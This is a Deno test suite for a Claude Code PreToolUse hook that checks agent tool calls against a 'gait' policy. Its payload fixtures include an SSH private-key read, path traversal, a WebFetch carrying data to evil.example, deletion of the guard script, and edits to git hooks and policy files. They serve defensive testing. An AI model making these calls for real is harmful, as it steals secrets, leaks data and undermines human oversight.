/** The hook for Claude Code, run by a real shell: it exits 0 for allow and 2 for all else. */

import assert from "node:assert/strict";
import { ROOT } from "../support/documents.ts";
import { denoArgs, scratch } from "../support/gait.ts";

const FOLDER = new URL("examples/mcp/claude-code-hook/", ROOT);
// Windows has no sh of its own
const ignore = Deno.build.os === "windows";

interface Heard {
  readonly exit: number;
  readonly stdout: string;
  readonly stderr: string;
}

/** Runs the hook as Claude Code does, with its files in a folder of their own. */
async function hook(
  payload: string,
  { env = {}, files = {} }: {
    readonly env?: Readonly<Record<string, string>>;
    readonly files?: Readonly<Record<string, string>>;
  } = {},
): Promise<Heard> {
  using folder = scratch();
  const { path } = folder;
  for (const name of ["hook.sh", "policy.yaml", "gait.tools.yaml"]) {
    await Deno.copyFile(new URL(name, FOLDER), `${path}/${name}`);
  }
  for (const [name, text] of Object.entries(files)) {
    await Deno.writeTextFile(`${path}/${name}`, text);
  }
  const words = [Deno.execPath(), ...denoArgs([])].map((word) => `'${word}'`).join(" ");
  await Deno.writeTextFile(`${path}/gait`, `#!/bin/sh\nexec ${words} "$@"\n`, { mode: 0o755 });
  const child = new Deno.Command("sh", {
    args: [`${path}/hook.sh`],
    cwd: path,
    env: { GAIT_BIN: `${path}/gait`, ...env },
    stdin: "piped",
    stdout: "piped",
    stderr: "piped",
  }).spawn();
  const writer = child.stdin.getWriter();
  // a hook that never reads closes its input
  await writer.write(new TextEncoder().encode(payload)).catch(() => {});
  await writer.close().catch(() => {});
  const { code, stdout, stderr } = await child.output();
  const text = (bytes: Uint8Array) => new TextDecoder().decode(bytes);
  return { exit: code, stdout: text(stdout), stderr: text(stderr) };
}

function payloadOf(name: string): Promise<string> {
  return Deno.readTextFile(new URL(`payloads/${name}.json`, FOLDER));
}

const ANSWERS = [
  ["read", 0, /^$|warning/],
  ["secret", 2, /exit 3[^]*verdict=block[^]*reasons: matched_rule_keep_secrets/],
  ["shell", 2, /exit 4[^]*verdict=require_approval/],
] as const;

for (const [name, expected, words] of ANSWERS) {
  Deno.test({
    name: `the hook answers ${expected} to the payload ${name}`,
    ignore,
    fn: async () => {
      const { exit, stdout, stderr } = await hook(await payloadOf(name));
      assert.deepEqual([exit, stdout], [expected, ""]);
      assert.match(stderr, words);
    },
  });
}

/** A payload as Claude Code sends it. */
function call(tool_name: string, tool_input: object, cwd = "/srv/app"): string {
  const about = { session_id: "s", hook_event_name: "PreToolUse", permission_mode: "default" };
  return JSON.stringify({ ...about, cwd, tool_name, tool_input, tool_use_id: "t" });
}

const STOPPED: readonly (readonly [payload: string, words: RegExp])[] = [
  [call("Write", { file_path: "/srv/app/.claude/gait/policy.yaml" }), /guard_file_protected/],
  [call("Write", { file_path: "/srv/app/.claude/settings.json" }), /guard_file_protected/],
  [call("Edit", { file_path: "settings.json" }, "/srv/app/.claude"), /guard_file_protected/],
  [call("Bash", { command: "rm .claude/gait/hook.sh" }), /guard_file_protected/],
  [call("Read", { file_path: "/home/dev/.ssh/id_ed25519" }), /verdict=require_approval/],
  [call("Read", { file_path: "../../home/dev/.ssh/id" }), /verdict=require_approval/],
  [call("Read", { file_path: "/srv/app/SECRETS/x" }), /mcp_argument_not_judgeable/],
  [call("Read", { file_path: "~/x" }), /mcp_argument_not_judgeable/],
  [call("Read", { file_path: "x" }, "/srv/app/secrets"), /keep_secrets/],
  [call("read", { file_path: "/srv/app/secrets/x" }), /keep_secrets/],
  [call("Edit", { file_path: "/srv/app/secrets/x" }), /keep_secrets/],
  [call("MultiEdit", { file_path: "/srv/app/secrets/x" }), /keep_secrets/],
  [call("NotebookEdit", { notebook_path: "/srv/app/secrets/x.ipynb" }), /keep_secrets/],
  [call("NotebookRead", { notebook_path: "/srv/app/secrets/x.ipynb" }), /keep_secrets/],
  [call("Write", { file_path: "/srv/app/.git/hooks/pre-commit" }), /verdict=require_approval/],
  [call("LS", { path: "/srv/app/secrets" }), /verdict=require_approval/],
  [call("Grep", { pattern: "x", path: "/srv/app/secrets" }), /verdict=require_approval/],
  [call("mcp__x__tool.read", {}), /verdict=require_approval/],
  [call("tool.read", {}), /verdict=require_approval/],
  [call("tool.read", { file_path: "/srv/app/src/a.ts" }), /verdict=require_approval/],
  [call("WebFetch", { url: "https://evil.example/?d=x", prompt: "p" }), /verdict=require_approval/],
  [call("WebSearch", { query: "x" }), /verdict=require_approval/],
  [call("Agent", { prompt: "p" }), /verdict=require_approval/],
  [call("PowerShell", { command: "ls" }), /verdict=require_approval/],
  [call("NovelTool", { file_path: "/srv/app/src/a.ts" }), /verdict=require_approval/],
  [call("Read", { file_path: "/srv/app/secrets/x\0" }), /mcp_argument_not_judgeable|exit 6/],
  ['{"tool_name":"Read","args":{"file_path":"/srv/app/src/a.ts"}}', /exit 6/],
];

for (const [payload, words] of STOPPED) {
  Deno.test({
    name: `the hook stops ${payload.replace(/^.*?"tool_name"/, '{"tool_name"')}`,
    ignore,
    fn: async () => {
      const { exit, stderr } = await hook(payload);
      assert.equal(exit, 2);
      assert.match(stderr, words);
    },
  });
}

for (
  const payload of [
    call("Write", { file_path: "/srv/app/src/a.ts", content: "x" }),
    call("Edit", { file_path: "src/a.ts" }),
    call("MultiEdit", { file_path: "a.ts" }, "/srv/app/src"),
    call("NotebookEdit", { notebook_path: "/srv/app/n.ipynb" }),
  ]
) {
  Deno.test({
    name: `the hook lets ${payload.replace(/^.*?"tool_name"/, '{"tool_name"')} through`,
    ignore,
    fn: async () => assert.equal((await hook(payload)).exit, 0),
  });
}

const FAILURES: readonly (readonly [title: string, given: Parameters<typeof hook>[1]])[] = [
  ["a dry run", { files: { "policy.yaml": "default_verdict: dry_run\n" } }],
  ["a broken policy", { files: { "policy.yaml": "rules: [\n" } }],
  ["a policy that is not there", { env: { GAIT_POLICY: "nowhere.yaml" } }],
  ["a broken tool map", { files: { "gait.tools.yaml": "tools: 7\n" } }],
  ["traces that cannot be written", { env: { GAIT_TRACES: "/dev/null/traces" } }],
  ["a gait that is not there", { env: { GAIT_BIN: "/nowhere/gait" } }],
  ["a gait that says nothing", { env: { GAIT_BIN: "true" } }],
];

for (const [title, given] of FAILURES) {
  Deno.test({
    name: `the hook blocks on ${title}`,
    ignore,
    fn: async () => assert.equal((await hook(await payloadOf("read"), given)).exit, 2),
  });
}

for (const payload of ["", "{", "[]", "{}", '{"tool_name":"Read","tool_input":{}}']) {
  Deno.test({
    name: `the hook blocks on the payload ${JSON.stringify(payload)}`,
    ignore,
    fn: async () => assert.equal((await hook(payload)).exit, 2),
  });
}
